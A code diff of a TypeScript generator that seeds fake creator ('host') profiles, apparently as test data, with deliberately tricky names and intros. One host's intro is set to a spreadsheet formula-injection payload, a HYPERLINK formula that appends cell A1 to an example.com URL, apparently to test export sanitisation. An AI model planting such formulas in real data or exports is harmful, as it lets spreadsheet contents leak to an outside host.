@@ -1,143 +1,82 @@
-import { between, chance, type Draws, pick } from "./random.js";
+import type { ContentItem, Host, HostProfile } from "../records.js";
+import { between, chance, type Draws, draws, pick, seldomNull, uuid } from "./random.js";
 
-/** What the public sees of a host, before any endpoint's shape is given to it. */
+/** A host of the platform whom the brand has met. */
 export interface Person {
-  username: string | null;
-  firstName: string | null;
-  lastName: string | null;
-  title: string | null;
-  intro: string | null;
+  profile: HostProfile;
   motto: string | null;
-  discipline: string | null;
-  specialty: string | null;
-  location: string | null;
-  socials: Record<string, string> | null;
+  /** The rate agreed with this host, percentage; null: the brand's default. */
+  rate: number | null;
+  /** How many sales and clicks come from this host, compared with others. */
+  weight: number;
 }
 
-const firstNames = [
-  "Amélie",
-  "Björn",
-  "Chloe",
-  "Diego",
-  "Éowyn",
-  "Finn",
-  "Giulia",
-  "Hanna",
-  "Ibrahim",
-  "Jūratė",
-  "Kofi",
-  "Lena",
-  "Mei-Ling",
-  "Niamh",
-  "Oskar",
-  "Priya",
-  "Quentin",
-  "Rosa",
-  "Søren",
-  "Tomáš",
-  "Uma",
-  "Věra",
-  "William",
-  "Ximena",
-  "Yuki",
-  "Zoë",
-] as const;
+const firstNames =
+  "Amélie|Björn|Chloe|Diego|Éowyn|Giulia|Ibrahim|Jūratė|Kofi|Mei-Ling|Niamh|Oskar|Priya|Rosa|Søren|Tomáš|Yuki|Zoë";
+const lastNames = `O'Brien|Müller|Smith, Jr.|D’Angelo|Jones "JJ"|Nguyen|Østergaard|García López|Van der Berg|Larsen 🏔️|Weiß`;
+const intros =
+  `I test gear so you don't have to. Mostly in the rain 🌧️|They call me "the goat", and I can't argue.|` +
+  "Climbing, coffee; in this order.\nSometimes the other way round.|Ski-Touren, Hütten und gutes Brot — für alle.|" +
+  "Ultra distance, small budget, big smiles|-5 °C is shorts weather|@ the trailhead by six";
+const disciplines = "Trail Running|Climbing|Cycling|Yoga|Ski Touring|Hiking".split("|");
+const specialties = "Ultra|Bouldering|Gravel|Vinyasa|Beginner guides|Hut to hut".split("|");
+const towns = "Innsbruck, Austria|Boulder, CO|Bergen|Zürich|Leeds, UK|São Paulo|Kraków".split("|");
+const mottos = "Slow is smooth|Carpe diem, carpe coffee|Leave it better|One more bend…".split("|");
+const networks = "instagram|tiktok|youtube|strava|website|twitter|facebook|linkedin".split("|");
 
-const lastNames = [
-  "O'Brien",
-  "Müller",
-  "Smith, Jr.",
-  "D’Angelo",
-  'Jones "JJ"',
-  "Nguyen",
-  "Østergaard",
-  "García López",
-  "Van der Berg",
-  "Kowalski",
-  "Sánchez",
-  "MacLeod",
-  "Öztürk",
-  "Andersson",
-  "Larsen 🏔️",
-  "Tanaka",
-  "Okafor",
-  "Dubois",
-  "Weiß",
-  "Novák",
-] as const;
-
-const intros = [
-  "Runner, mother, early riser.",
-  "I test gear so you don't have to. Mostly in the rain 🌧️",
-  'They call me "the goat", and I can\'t argue.',
-  "Climbing, coffee; in this order.\nSometimes the other way round.",
-  "Ski-Touren, Hütten und gutes Brot — für alle, die früh aufstehen.",
-  "Ultra distance, small budget, big smiles",
-  "-5 °C is shorts weather",
-  "@ the trailhead by six",
-] as const;
-
-const disciplines = ["Trail Running", "Climbing", "Cycling", "Yoga", "Ski Touring", "Hiking"] as const;
-const specialties = ["Ultra", "Bouldering", "Gravel", "Vinyasa", "Beginner guides", "Hut to hut"] as const;
-const places = [
-  "Innsbruck, Austria",
-  "Boulder, CO",
-  "Bergen",
-  "Zürich",
-  "Leeds, UK",
-  "São Paulo",
-  "Kraków",
-] as const;
-const mottos = ["Slow is smooth", "Carpe diem, carpe coffee", "Leave it better", "One more bend…"] as const;
-const networks = [
-  "instagram",
-  "tiktok",
-  "youtube",
-  "strava",
-  "website",
-  "twitter",
-  "facebook",
-  "linkedin",
-] as const;
-
-/** The host whose bio a spreadsheet would run: the one with this place in the pool. */
-export const formulaHost = 3;
+/** The text that a spreadsheet would run; the host of this place carries it. */
+const formulaPlace = 3;
 export const formulaIntro = '=HYPERLINK("https://example.com/?x="&A1,"My shop")';
 
-export function drawPerson(d: Draws, place: number): Person {
-  const firstName = pick(d, firstNames);
-  const lastName = pick(d, lastNames);
-  const handle = plain(`${firstName}${pick(d, ["", ".", "_"])}${lastName}${between(d, 1, 99)}`);
+export function createPerson(seed: number, place: number): Person {
+  const d = draws(seed, "host", place);
+  const id = uuid(d);
+  const [first, last] = [pick(d, firstNames.split("|")), pick(d, lastNames.split("|"))];
+  const handle = `${first}${pick(d, ["", ".", "_"])}${last}${between(d, 1, 99)}`
+    .normalize("NFD")
+    .replace(/[^a-zA-Z0-9._]/g, "")
+    .toLowerCase();
+  const profile: HostProfile = {
+    id,
+    username: seldomNull(d, 0.05, handle),
+    first_name: seldomNull(d, 0.04, first),
+    last_name: seldomNull(d, 0.06, last),
+    profile_photo: seldomNull(d, 0.1, `https://images.example.com/hosts/${id}.jpg`),
+    title: seldomNull(d, 0.2, `${pick(d, disciplines)} coach & "${pick(d, specialties)}" fan`),
+    intro: place === formulaPlace ? formulaIntro : seldomNull(d, 0.15, pick(d, intros.split("|"))),
+    discipline: seldomNull(d, 0.1, pick(d, disciplines)),
+    specialty: seldomNull(d, 0.3, pick(d, specialties)),
+    location: seldomNull(d, 0.15, pick(d, towns)),
+    socials: seldomNull(d, 0.12, drawSocials(d, handle)),
+  };
   return {
-    username: chance(d, 0.05) ? null : handle,
-    firstName: chance(d, 0.04) ? null : firstName,
-    lastName: chance(d, 0.06) ? null : lastName,
-    title: chance(d, 0.2) ? null : `${pick(d, disciplines)} coach & "${pick(d, specialties)}" fan`,
-    intro: place === formulaHost ? formulaIntro : chance(d, 0.15) ? null : pick(d, intros),
-    motto: chance(d, 0.4) ? null : pick(d, mottos),
-    discipline: chance(d, 0.1) ? null : pick(d, disciplines),
-    specialty: chance(d, 0.3) ? null : pick(d, specialties),
-    location: chance(d, 0.15) ? null : pick(d, places),
-    socials: chance(d, 0.12) ? null : drawSocials(d, handle),
+    profile,
+    motto: seldomNull(d, 0.4, pick(d, mottos)),
+    rate: chance(d, 0.3) ? pick(d, [5, 7.5, 8, 10, 12.5, 15, 18, 20]) : null,
+    weight: pick(d, [1, 1, 2, 3, 5, 8]),
   };
 }
 
 function drawSocials(d: Draws, handle: string): Record<string, string> {
-  const socials: Record<string, string> = {};
-  const first = between(d, 0, networks.length - 1);
-  const count = between(d, 1, 4);
-  for (let n = 0; n < count; n++) {
-    const network = networks[(first + n * 3) % networks.length] ?? "website";
-    const address =
-      network === "website" ? `https://${handle}.example.org/` : `https://${network}.example.com/${handle}`;
-    socials[network] = address;
-  }
-  return socials;
+  const chosen = networks.filter(() => chance(d, 0.3));
+  return Object.fromEntries(
+    (chosen.length > 0 ? chosen : ["website"]).map((name) => [name, `https://${name}.example.com/${handle}`]),
+  );
 }
 
-function plain(text: string): string {
-  return text
-    .normalize("NFD")
-    .replace(/[^a-zA-Z0-9._]/g, "")
-    .toLowerCase();
+/** Returns the base host object of orders, analytics and assignments. */
+export function hostOf({ profile }: Person): Host {
+  const { id, username, first_name, last_name, profile_photo } = profile;
+  return { id, username, first_name, last_name, profile_photo };
+}
+
+/** Returns the content item's own shape of a host. */
+export function contentHostOf({ id, username, first_name, last_name }: Host): ContentItem["host"] {
+  const name = [first_name, last_name].filter((part) => part !== null).join(" ");
+  return { id, username, name: name === "" ? null : name };
+}
+
+/** Returns a list in which each item stands as often as its weight says: a wheel to draw from. */
+export function wheelOf<T extends { weight: number }>(items: readonly T[]): T[] {
+  return items.flatMap((item) => Array.from({ length: item.weight }, () => item));
 }
